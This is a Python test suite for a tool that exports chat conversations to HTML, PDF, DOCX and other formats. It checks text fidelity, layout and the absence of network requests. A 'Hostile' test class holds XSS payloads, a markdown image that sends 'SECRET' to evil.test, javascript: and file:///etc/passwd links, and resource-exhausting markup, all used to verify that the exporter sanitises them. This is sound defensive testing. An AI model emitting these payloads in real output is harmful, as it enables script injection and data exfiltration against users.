# SPDX-License-Identifier: GPL-3.0-or-later
"""Exported files as other programs read them. Usage: test-export-files.py EXPORT-DUMP"""

import html.parser
import json
import os
import pathlib
import re
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree
import zipfile

DUMP = sys.argv.pop(1) if len(sys.argv) > 1 else ''
TITLE = 'How deep? 多深？ <&"\'>'
# What would load something, by element; links are followed only by people.
LOADING = {'src', 'srcset', 'poster', 'data', 'action', 'formaction', 'background', 'ping', 'manifest'}
VOID = {'meta', 'br', 'hr', 'input', 'link', 'img'}


def have(program):
    """Skips the test, saying so, where a program is missing."""
    found = subprocess.run(['which', program], stdout=subprocess.DEVNULL, check=False).returncode == 0
    return unittest.skipUnless(found, f'{program} is missing')


class Page(html.parser.HTMLParser):
    """What a page has: elements, ids, links, text; complains about what does not nest."""

    def __init__(self, text):
        super().__init__()
        self.elements, self.ids, self.links, self.loads, self.events = [], set(), [], [], []
        self.text, self.open, self.policy = '', [], None
        self.feed(text)
        self.close()
        assert not self.open, self.open

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.elements.append(tag)
        if tag not in VOID:
            self.open.append(tag)
        if 'id' in attributes:
            assert attributes['id'] not in self.ids, attributes['id']
            self.ids.add(attributes['id'])
        if tag == 'a' and 'href' in attributes:
            self.links.append(attributes['href'])
        elif 'href' in attributes:
            self.loads.append((tag, attributes['href']))
        self.loads += [(tag, attributes[name]) for name in LOADING & set(attributes)]
        self.events += [name for name in attributes if name.startswith('on')]
        if attributes.get('http-equiv') == 'Content-Security-Policy':
            self.policy = attributes['content']

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag):
        if tag in VOID:
            return
        assert self.open and self.open[-1] == tag, (tag, self.open)
        self.open.pop()

    def handle_data(self, data):
        self.text += data


class Files(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.folder = pathlib.Path(folder.name)

    def dump(self, name, kind=None):
        path = self.folder / f'out.{name}'
        subprocess.run([DUMP, name, path] + ([kind] if kind else []), check=True, timeout=120)
        return path

    def output(self, *command):
        return subprocess.run([str(word) for word in command], check=True, timeout=120, capture_output=True,
                              encoding='utf-8').stdout


class Html(Files):
    def test_page(self):
        text = self.dump('html').read_text(encoding='utf-8')
        page = Page(text)
        self.assertIn(f'<title>{TITLE}</title>'.replace('<&"', '&lt;&amp;&quot;').replace("'>", "'&gt;"), text)
        for part in ('探测器在深海中下降', 'هذه فقرة باللغة العربية', '👩🏽‍🚀', '<b>no markup</b>', 'Thought for 4 seconds',
                     'System prompt', '1200 + 350 tokens'):
            self.assertIn(part, page.text)
        self.assertNotIn('[citation:', page.text)
        self.assertEqual(page.elements.count('details'), 2)
        self.assertEqual(page.elements.count('thead'), 2)
        self.assertIn('<span class="k">def</span>', text)
        self.assertRegex(text, r'<span class="c"># 近似值</span>')

    def test_no_request(self):
        for kind in (None, 'tree'):
            page = Page(self.dump('html', kind).read_text(encoding='utf-8'))
            self.assertEqual((page.loads, page.events), ([], []))
            self.assertFalse({'script', 'link', 'img', 'iframe', 'object', 'embed', 'base', 'form'} & set(page.elements))
            self.assertTrue(page.policy.startswith("default-src 'none';"))
            for link in page.links:
                self.assertTrue(link.startswith(('https://example.org/', '#')), link)
                if link.startswith('#'):
                    self.assertIn(link[1:], page.ids)
        self.assertNotRegex(re.sub(r'(?s)<body>.*', '', self.dump('html').read_text(encoding='utf-8')), r'url\(|@import')

    @unittest.skipUnless(os.environ.get('SONDE_MATH_HELPER'), 'formulas are not built')
    def test_formulas(self):
        text = self.dump('html').read_text(encoding='utf-8')
        page = Page(text)
        self.assertEqual((page.elements.count('svg'), page.elements.count('math')), (2, 2))
        self.assertIn('<mi>E</mi><mo>=</mo><mi>m</mi><msup><mi>c</mi><mn>2</mn></msup>', text)
        self.assertNotIn('class="tex', text)
        self.assertNotIn('data-', re.sub('data-language', '', text))

    def test_tree(self):
        page = Page(self.dump('html', 'tree').read_text(encoding='utf-8'))
        self.assertIn('Another version.', page.text)
        self.assertIn('version 2 of 2', page.text)
        self.assertIn('after message 1', page.text)
        self.assertNotIn('Another version.', Page(self.dump('html').read_text(encoding='utf-8')).text)

    @have('xmllint')
    def test_other_parser(self):
        self.output('xmllint', '--html', '--nowarning', '--noout', '--recover', self.dump('html'))
        paragraphs = self.output('xmllint', '--html', '--nowarning', '--recover', '--xpath', 'count(//article)',
                                 self.folder / 'out.html')
        self.assertEqual(paragraphs.strip(), '4')

    def test_long(self):
        page = Page(self.dump('html', '5000').read_text(encoding='utf-8'))
        self.assertEqual(page.elements.count('article'), 5000)


class Pdf(Files):
    @have('pdftotext')
    def test_text(self):
        path = self.dump('pdf')
        text = self.output('pdftotext', '-layout', path, '-')
        for part in (TITLE, '探测器在深海中下降到一万零九百米', 'العربية', '日本語のテキスト', 'def depth(pressure: float)',
                     'Deepsea Challenger', 'Thought for 4 seconds', '<b>no markup</b>', '1. Bathyscaphe <Trieste> & co'):
            self.assertIn(part, text)
        words = text.split()
        for word in ('باللغة', 'وفيها', 'English', 'שלום', 'end"'):
            self.assertTrue(any(word in found for found in words), word)
        self.assertNotIn('[citation:', text)

    @have('pdftotext')
    def test_table_over_pages(self):
        pages = self.output('pdftotext', '-layout', self.dump('pdf'), '-').split('\f')
        rows = [page for page in pages if re.search(r'(?m)^ *\d+ +\d+ +row \d+', page)]
        self.assertGreater(len(rows), 2)
        for page in rows:
            self.assertRegex(page, r'(?m)^ *n +square +remark')
        found = [int(number) for number in re.findall(r'(?m)^ *(\d+) +\d+ +row \d+', '\n'.join(rows))]
        self.assertEqual(found, list(range(1, 121)))
        for number, page in enumerate(pages[:-1], 1):
            self.assertEqual(page.split()[-1], str(number))

    @have('pdffonts')
    def test_fonts(self):
        lines = self.output('pdffonts', self.dump('pdf')).splitlines()[2:]
        self.assertTrue(lines)
        for line in lines:
            embedded, subset, unicode_map = line.split()[-5:-2]
            self.assertEqual((embedded, unicode_map), ('yes', 'yes'), line)

    @have('pdfinfo')
    def test_info(self):
        path = self.dump('pdf')
        info = dict(line.split(':', 1) for line in self.output('pdfinfo', path).splitlines())
        self.assertEqual(info['Title'].strip(), TITLE)
        self.assertIn('A4', info['Page size'])
        self.assertEqual(info['JavaScript'].strip(), 'no')
        urls = self.output('pdfinfo', '-url', path)
        self.assertIn('https://example.org/trieste?a=1&b=2', urls)
        self.assertIn('https://example.org/%E5%A5%8B%E6%96%97%E8%80%85', urls)
        self.assertNotIn('javascript', urls)
        names = re.findall(r'"(m2-[^"]*)"', self.output('pdfinfo', '-dests', path))
        self.assertEqual(sorted(names), ['m2-n-n', 'm2-s1', 'm2-s2', 'm2-s3'])

    @have('pdftohtml')
    def test_outline(self):
        """The messages, and under each the headings of its answer."""
        text = self.output('pdftohtml', '-xml', '-i', '-stdout', self.dump('pdf'))
        outline = xml.etree.ElementTree.fromstring(text[text.index('<outline>'):text.rindex('</outline>') + len('</outline>')])

        def read(node):
            entries = []
            for child in node:
                if child.tag == 'item':
                    entries.append((child.text, []))
                else:
                    entries[-1][1].extend(read(child))
            return entries

        self.assertEqual(read(outline), [
            ('You: How deep can a submarine dive?', []),
            ('Assistant: 潜水艇能下多深？', [('潜水艇能下多深？', [('中文段落', []), ('العربية', []), ("עברית ואמוג'י", [])])]),
            ('You: And a table?', []), ('Assistant: A long table', [])])

    @have('pdfimages')
    def test_emoji(self):
        """As sharp as print, and still characters."""
        path = self.dump('pdf')
        rows = [line.split() for line in self.output('pdfimages', '-list', path).splitlines()[2:]]
        self.assertEqual(len({row[10] for row in rows}), 3)
        self.assertEqual([row for row in rows if int(row[12]) < 400], [])
        text = self.output('pdftotext', path, '-')
        for emoji in ('🌊', '🐙', '👩🏽‍🚀'):
            self.assertEqual(text.count(emoji), 1, emoji)

    @have('pdfinfo')
    def test_letter(self):
        kept = {name: value for name, value in os.environ.items() if name.endswith('SAN_OPTIONS')}
        environment = {'LC_ALL': 'en_US.UTF-8', 'PATH': '/usr/bin:/bin', **kept}
        path = self.folder / 'letter.pdf'
        subprocess.run([DUMP, 'pdf', path], check=True, env=environment, timeout=120)
        have_locale = 'en_US.utf8' in self.output('locale', '-a').split()
        self.assertIn('letter' if have_locale else 'A4', self.output('pdfinfo', path))


class Docx(Files):
    W = '{http://schemas.openxmlformats.org/wordprocessingml/2006/main}'

    def parts(self, kind=None):
        with zipfile.ZipFile(self.dump('docx', kind)) as archive:
            self.assertIsNone(archive.testzip())
            self.assertEqual(archive.namelist()[0], '[Content_Types].xml')
            return {name: xml.etree.ElementTree.fromstring(archive.read(name)) if not name.endswith('.png')
                    else archive.read(name) for name in archive.namelist()}

    def paragraphs(self, document):
        for paragraph in document.iter(self.W + 'p'):
            style = paragraph.find(f'{self.W}pPr/{self.W}pStyle')
            yield style.get(self.W + 'val') if style is not None else None, ''.join(
                text.text for text in paragraph.iter(self.W + 't'))

    def test_structure(self):
        parts = self.parts()
        paragraphs = list(self.paragraphs(parts['word/document.xml']))
        for expected in [('Title', TITLE), ('Heading1', 'You'), ('Heading2', '潜水艇能下多深？'), ('Heading3', '中文段落'),
                         ('ListParagraph', 'third'), ('Quote', 'A quotation'), ('TableHeading', 'Vessel'),
                         ('Reasoning', 'Thought for 4 seconds'), (None, 'The end & <b>no markup</b>.')]:
            self.assertIn(expected, paragraphs)
        styles = {style.get(self.W + 'styleId') for style in parts['word/styles.xml'].iter(self.W + 'style')}
        self.assertEqual({style for style, _text in paragraphs if style} - styles, set())
        document = parts['word/document.xml']
        self.assertEqual(len(list(document.iter(self.W + 'tblHeader'))), 2)
        self.assertEqual(len(list(document.iter(self.W + 'bidi'))), 4)
        numbers = {number.get(self.W + 'numId') for number in parts['word/numbering.xml'].iter(self.W + 'num')}
        self.assertEqual({number.get(self.W + 'val') for number in document.iter(self.W + 'numId')} - numbers, set())

    def test_places(self):
        """A list within thoughts stands beside the same bar; columns have room for what is in them; pages have numbers."""
        parts = self.parts()
        document = parts['word/document.xml']
        indents = [(paragraph.find(f'{self.W}pPr/{self.W}ind').attrib, paragraph.find(f'{self.W}pPr/{self.W}numPr') is not None)
                   for paragraph in document.iter(self.W + 'p')
                   if (style := paragraph.find(f'{self.W}pPr/{self.W}pStyle')) is not None and style.get(self.W + 'val') == 'Reasoning']
        self.assertEqual([(int(indent[self.W + 'left']) - int(indent.get(self.W + 'hanging', 0)), item) for indent, item in indents],
                         [(284, False), (284, False), (284, False), (284, False), (284, True), (284, True)])
        for table in document.iter(self.W + 'tbl'):
            widths = [int(column.get(self.W + 'w')) for column in table.iter(self.W + 'gridCol')]
            self.assertLessEqual(sum(widths), 9638)
            self.assertGreaterEqual(min(widths), 660)
        self.assertIn('PAGE', ''.join(parts['word/footer.xml'].itertext()))

    def test_footnotes(self):
        parts = self.parts()
        notes = [note for note in parts['word/footnotes.xml'].iter(self.W + 'footnote') if note.get(self.W + 'type') is None]
        texts = [''.join(text.text for text in note.iter(self.W + 't')).strip() for note in notes]
        self.assertEqual(texts, ['Bathyscaphe <Trieste> & co, 2026-01-02', '奋斗者号', 'The note itself.', 'Trap'])
        references = [reference.get(self.W + 'id') for reference in parts['word/document.xml'].iter(self.W + 'footnoteReference')]
        self.assertEqual(references, [note.get(self.W + 'id') for note in notes])

    def test_links(self):
        parts = self.parts()
        for part in ('document', 'footnotes'):
            relations = {relation.get('Id'): relation for relation in parts[f'word/_rels/{part}.xml.rels']}
            used = re.findall(r'relationships}(?:id|embed)\': \'(\w+)', str([node.attrib for node in parts[f'word/{part}.xml'].iter()]))
            self.assertTrue(used)
            for name in used:
                self.assertIn(name, relations)
            for relation in relations.values():
                if relation.get('TargetMode') == 'External':
                    self.assertTrue(relation.get('Target').startswith('https://example.org/'))
                else:
                    self.assertIn('word/' + relation.get('Target'), parts)

    @unittest.skipUnless(os.environ.get('SONDE_MATH_HELPER'), 'formulas are not built')
    def test_formulas(self):
        parts = self.parts()
        descriptions = [node.get('descr') for node in parts['word/document.xml'].iter() if node.tag.endswith('docPr')]
        self.assertEqual(descriptions, ['E = mc^2', '\\int_0^h \\rho g\\,dz = p'])
        self.assertTrue(parts['word/media/formula1.png'].startswith(b'\x89PNG'))
        # The same as lines, for programs that know how; nothing in it but shapes, and a size of its own.
        self.assertEqual(len([node for node in parts['word/document.xml'].iter() if node.tag.endswith('svgBlip')]), 2)
        vector = parts['word/media/formula1.svg']
        self.assertTrue(vector.get('width').endswith('pt') and vector.get('viewBox'))
        self.assertEqual({node.tag for node in vector.iter()}, {'{http://www.w3.org/2000/svg}' + name for name in ('svg', 'g', 'path')})
        self.assertNotIn('currentColor', str([node.attrib for node in vector.iter()]))

    @have('soffice')
    def test_libreoffice(self):
        path = self.dump('docx')
        self.output('soffice', f'-env:UserInstallation=file://{self.folder}/profile', '--headless', '--convert-to', 'txt:Text',
                    '--outdir', self.folder, path)
        text = (self.folder / 'out.txt').read_text(encoding='utf-8')
        for part in (TITLE, '探测器在深海中下降', 'هذه فقرة باللغة العربية', '2. second with a paragraph', 'row 120'):
            self.assertIn(part, text)

    def test_long(self):
        headings = [style for style, _text in self.paragraphs(self.parts('5000')['word/document.xml']) if style == 'Heading1']
        self.assertEqual(len(headings), 5000)


class Hostile(Files):
    """What models may write to harm who exports it: markup, addresses, depth and size."""

    @staticmethod
    def texts():
        found = ['<script>alert(1)</script><img src=x onerror=alert(1)>', '![x](https://evil.test/p.png?d=SECRET)',
                 '[a](javascript:alert(1)) [b](data:text/html,x) [c](file:///etc/passwd) <https://evil.test/"onclick="x>',
                 '[d](https://evil.test/\'x\\y) [e](https://evil.test/]]>--&amp;)', '</style></script><style>*{}</style>',
                 'a\x01\x02\x08\x1b[2J\x7f b\ufffe\uffff c\u202e\u2028d', '`' * 3 + 'x" onclick="y\ncode\n' + '`' * 3,
                 '>' * 300 + ' deep', ''.join('  ' * i + '- x\n' for i in range(150)), '*' * 5000 + 'a' + '*' * 5000,
                 '|' + 'a|' * 200 + '\n|' + '-|' * 200 + '\n|' + 'b|' * 200,
                 '| a | b |\n|---|---|\n' + '| c | d |\n' * 3000,
                 '| a |\n|---|\n| ' + 'one cell that is longer than several pages ' * 1500 + '|',
                 'x' * 100000, '深' * 50000, '```\n' + 'line\n' * 5000 + '```', '# ' + 'head ' * 3000,
                 '$' + '\\frac{1}{' * 200 + 'x' + '}' * 200 + '$', '$$\\href{javascript:alert(1)}{x}$$',
                 '[^a] [^a]\n\n[^a]: note [^a]', '1. ' * 100 + 'x', '999999999. big', '']
        corpus = pathlib.Path(os.environ.get('SONDE_CONFORMANCE', ''), 'adversarial', 'markdown-security.json')
        if corpus.is_file():
            found += [case['input'] for case in json.loads(corpus.read_text(encoding='utf-8'))['cases']
                      if isinstance(case.get('input'), str)]
        return found

    def hostile(self, name):
        path = self.folder / 'texts.json'
        path.write_text(json.dumps(self.texts()), encoding='utf-8')
        return self.dump(name, path)

    def test_html(self):
        page = Page(self.hostile('html').read_text(encoding='utf-8'))
        self.assertEqual((page.loads, page.events), ([], []))
        self.assertFalse({'script', 'link', 'img', 'iframe', 'object', 'embed', 'base', 'form'} & set(page.elements))
        self.assertEqual(page.elements.count('style'), 1)
        for link in page.links:
            self.assertRegex(link, r'^(https?://|mailto:|#)')
        self.assertEqual(page.elements.count('article'), len(self.texts()))

    def test_docx(self):
        with zipfile.ZipFile(self.hostile('docx')) as archive:
            for name in archive.namelist():
                if name.endswith(('.xml', '.rels')):
                    xml.etree.ElementTree.fromstring(archive.read(name))
            targets = re.findall(r'Target="([^"]*)" TargetMode="External"', archive.read('word/_rels/document.xml.rels').decode())
        for target in targets:
            self.assertRegex(target, r'^(https?://|mailto:)')

    @have('pdfinfo')
    def test_pdf(self):
        path = self.hostile('pdf')
        self.assertGreater(int(re.search(r'Pages: +(\d+)', self.output('pdfinfo', path)).group(1)), 50)
        for line in self.output('pdfinfo', '-url', path).splitlines()[1:]:
            self.assertRegex(line.split()[-1], r'^(https?://|mailto:)')

    def test_others(self):
        for name in ('md', 'txt', 'json', 'openai', 'jsonl'):
            self.assertGreater(self.hostile(name).stat().st_size, 100000)


if __name__ == '__main__':
    unittest.main()
